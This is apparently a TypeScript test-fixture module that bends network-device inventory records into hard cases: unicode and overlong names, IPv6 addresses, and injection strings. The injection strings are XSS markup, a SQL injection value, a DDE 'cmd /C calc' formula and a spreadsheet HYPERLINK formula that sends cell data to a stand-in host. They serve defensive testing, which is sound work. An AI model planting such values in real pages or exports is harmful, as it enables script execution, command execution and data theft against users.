import type { Draft } from './draft.ts'
import type { HardCase } from './hard_cases.ts'

const LONG_LABEL = 'rack-a3-in-the-second-basement-below-the-old-chemistry-building'
const LONG_NAME = `${`${LONG_LABEL}.`.repeat(3)}${LONG_LABEL.slice(0, 49)}.lab.example`
const LONG_TEXT = 'The previous administrator described this device at length. '.repeat(90)

/** Texts that break pages, exports and columns when they are not treated as data. */
export const HARD_NAMES: readonly HardCase[] = [
  { product: 'hp-printer', bend: (draft) => rename(draft, 'Küche-Drucker-Süd', 'Gebäude Ä, Raum 2265 – Küche') },
  { product: 'axis', bend: (draft) => rename(draft, '会议室-摄像头-02', '2266 会议室') },
  { product: 'uap', bend: (draft) => rename(draft, 'точка-доступа-7', 'Комната 2265 📡') },
  { product: 'synology', bend: (draft) => rename(draft, 'نسخ-احتياطي', 'Room 2266, rack B2') },
  { product: 'c9300', bend: longName },
  { product: 'poweredge-linux', bend: longTexts },
  {
    product: 'brother',
    bend: (draft) => inject(draft, '<script>alert("prn")</script>', 'Room 2265 <img src=x onerror=alert(1)>'),
  },
  { product: 'crs', bend: (draft) => inject(draft, '"><svg/onload=alert(2)>', "Room 2266' OR '1'='1") },
  { product: 'apc-ups', bend: (draft) => formula(draft, '=HYPERLINK("http://192.0.2.1/?"&A1,"open")') },
  { product: 'apc-pdu', bend: (draft) => formula(draft, "@SUM(1+1)*cmd|' /C calc'!A0") },
  { product: 'ccr', bend: (draft) => address(draft, '2001:db8:65::17') },
  { product: 'ex', bend: (draft) => address(draft, '2001:db8:66::2:1') },
]

function rename(draft: Draft, name: string, location: string) {
  draft.sysName = name
  draft.hostname = null
  draft.location = location
  Object.assign(draft.views.librenms, { hostname: draft.ip, sysName: name.toLowerCase(), location })
  Object.assign(draft.views.netdisco, { hostname: null, sysName: name, location })
  draft.oddities.push('unicode')
}

function longName(draft: Draft) {
  draft.hostname = LONG_NAME
  draft.views.librenms.hostname = LONG_NAME
  draft.views.netdisco.hostname = LONG_NAME
  draft.oddities.push('name_of_253_characters')
}

function longTexts(draft: Draft) {
  draft.description = LONG_TEXT
  draft.location = LONG_TEXT.slice(0, 1200)
  draft.views.librenms.location = draft.location
  draft.views.netdisco.location = draft.location
  draft.views.librenms.model = `Dell Inc. PowerEdge R640 ${'with a very long marketing name '.repeat(12)}`
  draft.oddities.push('overlong_text')
}

function inject(draft: Draft, markup: string, location: string) {
  draft.description = `${markup} ${draft.description}`
  draft.location = location
  draft.sysName = markup
  Object.assign(draft.views.librenms, { sysName: markup, location, model: markup })
  Object.assign(draft.views.netdisco, { sysName: markup, location, model: markup })
  draft.oddities.push('markup')
}

function formula(draft: Draft, text: string) {
  draft.location = text
  Object.assign(draft.views.librenms, { location: text, model: text })
  Object.assign(draft.views.netdisco, { location: text, model: text })
  draft.oddities.push('formula')
}

function address(draft: Draft, ip: string) {
  draft.ip = ip
  draft.views.librenms.ip = ip
  draft.views.netdisco.ip = ip
  if (draft.oddities.includes('hostname_is_an_address')) draft.views.librenms.hostname = ip
}
